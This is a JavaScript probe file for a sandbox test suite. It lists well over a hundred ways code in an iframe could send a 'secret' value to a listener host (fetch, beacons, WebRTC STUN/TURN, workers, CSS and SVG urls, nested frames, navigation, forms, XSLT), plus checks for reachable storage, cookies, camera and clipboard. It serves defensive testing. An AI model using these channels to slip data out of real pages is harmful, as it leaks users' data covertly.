// Every road by which what runs in a frame could reach somebody: one probe a road. The tests of the seal run them, and so
// does "test the seal in this browser".
//
// This file is source that is put into an artifact: it imports nothing. `roads(to)` gives the probes; each tries its road
// once, and leaves its own name in whatever arrives. What a probe throws means that the browser refused. to: http, ws,
// udp, tcp: where somebody listens ("127.0.0.1:9000", or with a path).

/** What a frame of an artifact may try before it is anywhere else. */
export function roads(to) {
  const http = (name) => `http://${to.http}/${name}?d=secret`;
  const ws = (name) => `ws://${to.http}/${name}?d=secret`;
  const put = (html) => {
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
  };
  const add = (tag, given, within = document.body) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
    within.append(made);
    return made;
  };
  const style = (css) => {
    add("style", {}, document.head).textContent = css;
    put('<div class="probe" style="width:9px;height:9px">x</div>');
  };
  const link = (rel, name, more = {}) => add("link", { rel, href: http(name), ...more }, document.head);
  const svg = (inside) => put(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`);
  const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  const moduleWorker = (code) =>
    new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })), { type: "module" });
  const script = (source, given = {}) => {
    const made = document.createElement("script");
    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
    if (source) made.textContent = source;
    document.head.append(made);
  };
  const peer = (kind, urls, more = {}) => `
    const C = globalThis.RTCPeerConnection || globalThis.webkitRTCPeerConnection;
    const c = new C({ iceServers: [${JSON.stringify({ urls, ...more })}], iceTransportPolicy: ${JSON.stringify(kind)} });
    c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));`;
  const STUN = peer("all", `stun:${to.udp}`);
  const TURN = peer("relay", `turn:${to.tcp}?transport=tcp`, { username: "secret", credential: "x" });
  /** Code that runs in a frame inside of this one, if any of its ways in is open. */
  const inner = (code, given = {}) => {
    const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    const page = `<script>${code}</script><script src="${blob}"></script><img src=x onerror='${code.replaceAll("'", "&#39;")}'>`;
    add("iframe", { srcdoc: page, ...given });
    add("iframe", { src: `data:text/html,${encodeURIComponent(page)}`, ...given });
    add("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })), ...given });
    const blank = add("iframe", given);
    blank.contentWindow.document.write(page);
  };
  const program = document.querySelector('script[type="module"][src]')?.src ?? "about:blank";
  const library = new URL(
    JSON.parse(document.querySelector('script[type="importmap"]')?.textContent ?? "null")?.imports.d3 ?? "about:blank",
    location.href,
  ).href;
  const run = (code) => import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));

  return {
    // requests of scripts
    fetch: () => fetch(http("fetch")),
    fetch_no_cors: () => fetch(http("fetch_no_cors"), { mode: "no-cors", method: "POST", body: "secret" }),
    fetch_keepalive: () => fetch(http("fetch_keepalive"), { mode: "no-cors", keepalive: true }),
    fetch_later: () => window.fetchLater(http("fetch_later"), { activateAfter: 0 }),
    xhr: () => {
      const asked = new XMLHttpRequest();
      asked.open("GET", http("xhr"));
      asked.send();
    },
    xhr_sync: () => {
      const asked = new XMLHttpRequest();
      asked.open("GET", http("xhr_sync"), false);
      asked.send();
    },
    beacon: () => navigator.sendBeacon(http("beacon"), "secret"),
    event_source: () => new EventSource(http("event_source")),
    websocket: () => new WebSocket(ws("websocket")),
    websocket_stream: () => new WebSocketStream(ws("websocket_stream")),
    web_transport: () => new WebTransport(`https://${to.udp}/web_transport`),
    rtc_stun: () => run(STUN),
    rtc_turn: () => run(TURN),
    attribution: () => add("img", { attributionsrc: http("attribution") }),
    shared_storage: () => window.sharedStorage?.worklet?.addModule(http("shared_storage")),
    cache_add: () => caches.open("x").then((cache) => cache.add(http("cache_add"))),
    background_fetch: () =>
      navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch("x", [http("background_fetch")])),

    // code from elsewhere
    import: () => import(http("import")),
    script: () => script("", { src: http("script") }),
    script_module: () => script("", { type: "module", src: http("script_module") }),
    script_inline: () => script(`fetch(${JSON.stringify(http("script_inline"))})`),
    import_map: () => script(JSON.stringify({ imports: { stray: http("import_map") } }), { type: "importmap" }),
    import_stray: () => import(["stray"][0]),
    import_from_data: () => import(`data:text/javascript,import ${JSON.stringify(http("import_from_data"))}`),
    import_css: () => run(`import s from ${JSON.stringify(http("import_css"))} with { type: "css" };`),
    import_json: () => run(`import s from ${JSON.stringify(http("import_json"))} with { type: "json" };`),
    eval: () => window.eval(`fetch(${JSON.stringify(http("eval"))})`),
    timeout_text: () => setTimeout(`fetch(${JSON.stringify(http("timeout_text"))})`, 0),
    javascript_address: () => {
      const made = add("a", { href: `javascript:fetch(${JSON.stringify(http("javascript_address"))})` });
      made.click();
    },
    worker: () => worker(`fetch(${JSON.stringify(http("worker"))})`),
    worker_from_there: () => new Worker(http("worker_from_there")),
    worker_import_scripts: () => worker(`importScripts(${JSON.stringify(http("worker_import_scripts"))})`),
    worker_import: () => worker(`import(${JSON.stringify(http("worker_import"))})`),
    worker_module: () => moduleWorker(`import ${JSON.stringify(http("worker_module"))}`),
    worker_xhr: () =>
      worker(`const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(http("worker_xhr"))}); x.send()`),
    worker_websocket: () => worker(`new WebSocket(${JSON.stringify(ws("worker_websocket"))})`),
    worker_websocket_stream: () => worker(`new WebSocketStream(${JSON.stringify(ws("worker_websocket_stream"))})`),
    worker_event_source: () => worker(`new EventSource(${JSON.stringify(http("worker_event_source"))})`),
    worker_web_transport: () => worker(`new WebTransport(${JSON.stringify(`https://${to.udp}/worker_web_transport`)})`),
    worker_rtc: () => worker(STUN),
    worker_in_worker: () =>
      worker(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch("${http("worker_in_worker")}")`)}])))`),
    worker_data: () => new Worker(`data:text/javascript,fetch("${http("worker_data")}")`),
    shared_worker: () => new SharedWorker(http("shared_worker")),
    shared_worker_blob: () =>
      new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(http("shared_worker_blob"))})`]))),
    service_worker: () => navigator.serviceWorker.register(http("service_worker")),
    worklet_paint: () => CSS.paintWorklet.addModule(http("worklet_paint")),
    worklet_audio: () => new AudioContext().audioWorklet.addModule(http("worklet_audio")),

    // pictures, sounds, fonts, styles
    img: () => add("img", { src: http("img") }),
    img_srcset: () => add("img", { srcset: `${http("img_srcset")} 1x` }),
    picture: () => put(`<picture><source srcset="${http("picture")}"><img src="data:,"></picture>`),
    image_object: () => {
      new Image().src = http("image_object");
    },
    input_image: () => add("input", { type: "image", src: http("input_image") }),
    video: () => add("video", { src: http("video"), autoplay: "", muted: "" }),
    video_poster: () => add("video", { poster: http("video_poster") }),
    audio: () => add("audio", { src: http("audio"), preload: "auto" }),
    source: () => put(`<video autoplay muted><source src="${http("source")}"></video>`),
    track: () =>
      put(
        `<video autoplay muted src="data:video/mp4,"><track default kind="subtitles" src="${http("track")}"></video>`,
      ),
    object: () => add("object", { data: http("object") }),
    embed: () => add("embed", { src: http("embed") }),
    embed_svg: () => add("embed", { src: http("embed_svg"), type: "image/svg+xml" }),
    applet_body: () => document.body.setAttribute("background", http("applet_body")),
    css_background: () => style(`.probe { background: url(${http("css_background")}) }`),
    css_image_set: () => style(`.probe { background: image-set("${http("css_image_set")}" 1x) }`),
    css_cross_fade: () =>
      style(`.probe { background: -webkit-cross-fade(url(${http("css_cross_fade")}), url(data:,), 50%) }`),
    css_cursor: () => style(`html { cursor: url(${http("css_cursor")}), auto }`),
    css_content: () => style(`.probe::after { content: url(${http("css_content")}) }`),
    css_list: () => style(`.probe { display: list-item; list-style: url(${http("css_list")}) inside }`),
    css_border: () => style(`.probe { border: 3px solid; border-image: url(${http("css_border")}) 1 }`),
    css_mask: () => style(`.probe { mask: url(${http("css_mask")}); -webkit-mask-image: url(${http("css_mask")}) }`),
    css_shape: () => style(`.probe { float: left; shape-outside: url(${http("css_shape")}) }`),
    css_clip: () => style(`.probe { clip-path: url(${http("css_clip")}#a) }`),
    css_filter: () => style(`.probe { filter: url(${http("css_filter")}#a) }`),
    css_import: () => style(`@import "${http("css_import")}";`),
    css_import_layer: () => style(`@import url(${http("css_import_layer")}) layer(x) supports(display: grid);`),
    css_font: () => style(`@font-face { font-family: p1; src: url(${http("css_font")}) } .probe { font-family: p1 }`),
    css_variable: () => style(`:root { --u: url(${http("css_variable")}) } .probe { background: var(--u) }`),
    css_constructed: () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`.probe { background: url(${http("css_constructed")}) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    css_inline: () => put(`<div style="width:9px;height:9px;background:url(${http("css_inline")})"></div>`),
    font_face: () => new FontFace("p2", `url(${http("font_face")})`).load(),
    svg_image: () => svg(`<image href="${http("svg_image")}" width="9" height="9"/>`),
    svg_image_xlink: () =>
      svg(
        `<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${http("svg_image_xlink")}" width="9" height="9"/>`,
      ),
    svg_use: () => svg(`<use href="${http("svg_use")}#a"/>`),
    svg_fe_image: () =>
      svg(
        `<filter id="f"><feImage href="${http("svg_fe_image")}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
      ),
    svg_pattern: () => svg(`<rect width="9" height="9" fill="url(${http("svg_pattern")}#a)"/>`),
    svg_foreign: () =>
      svg(
        `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${http("svg_foreign")}"/></foreignObject>`,
      ),
    svg_script: () => svg(`<script href="${http("svg_script")}"></script>`),
    svg_in_image: () =>
      add("img", {
        src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${http("svg_in_image")}" width="9" height="9"/></svg>`)}`,
      }),
    svg_animate: () =>
      svg(`<image width="9" height="9"><set attributeName="href" to="${http("svg_animate")}"/></image>`),
    math_href: () => {
      put(`<math href="${http("math_href")}" id="m"><mi>x</mi></math>`);
      document.getElementById("m").dispatchEvent(new MouseEvent("click", { bubbles: true }));
    },

    // hints
    dns_prefetch: () => link("dns-prefetch", "dns_prefetch"),
    preconnect: () => link("preconnect", "preconnect"),
    prefetch: () => link("prefetch", "prefetch"),
    prerender: () => link("prerender", "prerender"),
    preload: () => link("preload", "preload", { as: "image" }),
    preload_fetch: () => link("preload", "preload_fetch", { as: "fetch", crossorigin: "" }),
    module_preload: () => link("modulepreload", "module_preload"),
    stylesheet: () => link("stylesheet", "stylesheet"),
    icon: () => link("icon", "icon"),
    manifest: () => link("manifest", "manifest"),
    dictionary: () => link("compression-dictionary", "dictionary"),
    expect: () => link("expect", "expect", { blocking: "render" }),
    speculation_rules: () =>
      script(
        JSON.stringify({
          prefetch: [{ source: "list", urls: [http("speculation_rules")] }],
          prerender: [{ source: "list", urls: [http("speculation_rules")] }],
        }),
        { type: "speculationrules" },
      ),

    // frames inside, and what they might have that this one has not
    frame: () => add("iframe", { src: http("frame") }),
    frame_fenced: () => add("fencedframe", { src: http("frame_fenced") }),
    frame_portal: () => add("portal", { src: http("frame_portal") }),
    frame_srcdoc_image: () => add("iframe", { srcdoc: `<img src="${http("frame_srcdoc_image")}">` }),
    frame_srcdoc_refresh: () =>
      add("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${http("frame_srcdoc_refresh")}">` }),
    frame_javascript: () => add("iframe", { src: `javascript:fetch("${http("frame_javascript")}")` }),
    frame_fetch: () => inner(`fetch("${http("frame_fetch")}")`),
    frame_fetch_open: () =>
      inner(`fetch("${http("frame_fetch_open")}")`, { sandbox: "allow-scripts allow-same-origin", allow: "*" }),
    frame_stun: () => inner(STUN),
    frame_turn: () => inner(TURN, { allow: "*" }),
    frame_blank_peer: () => {
      const made = add("iframe", {});
      const C = made.contentWindow.RTCPeerConnection;
      const c = new C({ iceServers: [{ urls: `stun:${to.udp}` }] });
      c.createDataChannel("x");
      c.createOffer().then((offer) => c.setLocalDescription(offer));
    },
    frame_named_navigation: () => {
      add("iframe", { name: "probe_target" });
      add("a", { href: http("frame_named_navigation"), target: "probe_target" }).click();
    },
    /** The frame's own program, asked to run code in a frame inside, where the doors might be open. */
    frame_own_program: () => {
      const made = add("iframe", { srcdoc: `<script type="module" crossorigin src="${program}"></script>` });
      const channel = new MessageChannel();
      channel.port1.onmessage = ({ data }) => {
        if (data.type !== "ready") return;
        const page = `<script>${STUN}</script><script>${TURN}</script><img src="${http("frame_own_program")}">`;
        channel.port1.postMessage({
          type: "render",
          id: 1,
          kind: "html",
          files: { "a.html": page },
          entry: "a.html",
          theme: "light",
          language: "en",
        });
      };
      window.addEventListener("message", (event) => {
        if (event.source === made.contentWindow) made.contentWindow.postMessage(event.data, "*", [channel.port2]);
      });
    },
    frame_library_in_srcdoc: () =>
      add("iframe", {
        srcdoc: `<script src="${library}"></script><script src="${http("frame_library_in_srcdoc")}"></script>`,
      }),

    // going elsewhere
    window_open: () => window.open(http("window_open")),
    window_open_noopener: () => window.open(http("window_open_noopener"), "_blank", "noopener"),
    link_blank: () => add("a", { href: http("link_blank"), target: "_blank", rel: "noopener" }).click(),
    link_ping: () => add("a", { href: "#x", ping: http("link_ping") }).click(),
    base: () => {
      add("base", { href: `http://${to.http}/` }, document.head);
      add("img", { src: "base?d=secret" });
    },
    payment: () =>
      new PaymentRequest([{ supportedMethods: http("payment") }], {
        total: { label: "x", amount: { currency: "EUR", value: "1" } },
      }).canMakePayment(),
    credential: () =>
      navigator.credentials.get({ identity: { providers: [{ configURL: http("credential"), clientId: "x" }] } }),
    public_key: () =>
      navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), rpId: to.http.split(":")[0] } }),
    notification: () => new Notification("x", { icon: http("notification") }),
    media_session: () => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: http("media_session") }] });
    },
    presentation: () => new PresentationRequest([http("presentation")]).start(),
    remote_playback: () => add("video", { src: http("remote_playback") }).remote?.prompt(),
    report: () => {
      const made = add(
        "meta",
        { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${http("report")}` },
        document.head,
      );
      add("img", { src: "data:image/gif,x" });
      return made;
    },
    meta_csp_report_to: () =>
      add(
        "meta",
        { "http-equiv": "Report-To", content: JSON.stringify({ endpoints: [{ url: http("meta_csp_report_to") }] }) },
        document.head,
      ),
    cookie_meta: () => add("meta", { "http-equiv": "set-cookie", content: "a=secret" }, document.head),
    web_bundle: () =>
      script(JSON.stringify({ source: http("web_bundle"), resources: [http("web_bundle_inner")] }), {
        type: "webbundle",
      }),
    xslt: () => {
      const text = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${http("xslt")}"?><a/>`;
      add("iframe", { src: URL.createObjectURL(new Blob([text], { type: "application/xml" })) });
    },
    xslt_processor: () => {
      const sheet = new DOMParser().parseFromString(
        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${http("xslt_processor")}"/><xsl:template match="/"><a><xsl:copy-of select="document('${http("xslt_processor")}')"/></a></xsl:template></xsl:stylesheet>`,
        "application/xml",
      );
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      processor.transformToDocument(document.implementation.createDocument("", "a"));
    },
    xml_entity: () =>
      new DOMParser().parseFromString(
        `<!DOCTYPE a [<!ENTITY e SYSTEM "${http("xml_entity")}">]><a>&e;</a>`,
        "application/xml",
      ),
  };
}

/** What may end the document that tries it: each has a frame to itself. */
export function leavings(to) {
  const http = (name) => `http://${to.http}/${name}?d=secret`;
  const put = (html) => {
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
  };
  const add = (tag, given) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
    document.body.append(made);
    return made;
  };
  return {
    location: () => {
      location.href = http("location");
    },
    location_replace: () => location.replace(http("location_replace")),
    location_assign: () => window.location.assign(http("location_assign")),
    navigation_api: () => navigation.navigate(http("navigation_api")),
    meta_refresh: () => {
      const made = document.createElement("meta");
      made.httpEquiv = "refresh";
      made.content = `0;url=${http("meta_refresh")}`;
      document.head.append(made);
    },
    link_self: () => {
      const made = document.createElement("a");
      made.href = http("link_self");
      document.body.append(made);
      made.click();
    },
    open_self: () => window.open(http("open_self"), "_self"),
    document_open: () => {
      document.open();
      document.write(`<meta http-equiv="refresh" content="0;url=${http("document_open")}">`);
      document.close();
    },
    to_blob: () => {
      const page = `<script>fetch("${http("to_blob")}")</script><img src="${http("to_blob")}">`;
      location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
    },
    to_data: () => {
      location.href = `data:text/html,<img src="${http("to_data")}">`;
    },
    to_javascript: () => {
      location.href = `javascript:'<img src="${http("to_javascript")}">'`;
    },
    link_top: () => add("a", { href: http("link_top"), target: "_top" }).click(),
    link_parent: () => add("a", { href: http("link_parent"), target: "_parent" }).click(),
    link_download: () => add("a", { href: http("link_download"), download: "x" }).click(),
    area: () => {
      put(`<map name="m1"><area id="area1" href="${http("area")}" shape="default" target="_blank"></map>`);
      document.getElementById("area1").click();
    },
    form_get: () => add("form", { action: http("form_get") }).submit(),
    form_post: () => add("form", { action: http("form_post"), method: "post", target: "_blank" }).submit(),
    form_button: () => {
      put(`<form><button id="b1" formaction="${http("form_button")}">x</button></form>`);
      document.getElementById("b1").click();
    },
    form_request: () => add("form", { action: http("form_request") }).requestSubmit(),
    top_location: () => {
      window.top.location = http("top_location");
    },
    top_replace: () => window.parent.location.replace(http("top_replace")),
    /** Back to the frame's own address, from which a page that is asked again might be let go unsealed. */
    reload: () => location.reload(),
  };
}

/** What must not be in reach. Each gives true when it is. */
export const holds = {
  parent_document: () => Boolean(window.parent.document),
  top_document: () => Boolean(window.top.document),
  parent_name: () => typeof window.parent.name === "string",
  frame_element: () => Boolean(window.frameElement),
  opener: () => Boolean(window.opener),
  parent_storage: () => Boolean(window.parent.localStorage),
  /** What stands in for it keeps nothing, and is none of the browser's. */
  local_storage: () => window.localStorage instanceof Storage,
  session_storage: () => window.sessionStorage instanceof Storage,
  cookies: () => typeof document.cookie === "string",
  indexed_db: () =>
    new Promise((resolve) => {
      const asked = indexedDB.open("x");
      asked.onsuccess = () => resolve(true);
      asked.onerror = asked.onblocked = () => resolve(false);
    }),
  caches: () => caches.keys().then(() => true),
  cookie_store: () => cookieStore.getAll().then(() => true),
  file_system: () => navigator.storage.getDirectory().then(() => true),
  eval: () => window.eval("true"),
  function_of_words: () => new Function("return true")(),
  rtc: () => typeof RTCPeerConnection === "function",
  rtc_in_frame: () => {
    const made = document.createElement("iframe");
    document.body.append(made);
    return typeof made.contentWindow.RTCPeerConnection === "function";
  },
  broadcast: () =>
    new Promise((resolve) => {
      const channel = new BroadcastChannel("deskhand-seal");
      channel.onmessage = () => resolve(true);
      channel.postMessage("anybody?");
      setTimeout(resolve, 300, false);
    }),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => true),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => true),
  clipboard: () => navigator.clipboard.readText().then(() => true),
  place: () =>
    new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(
        () => resolve(true),
        () => resolve(false),
      ),
    ),
  usb: () => navigator.usb.getDevices().then((found) => found.length > 0),
  service_worker: () => Boolean(navigator.serviceWorker.controller),
};
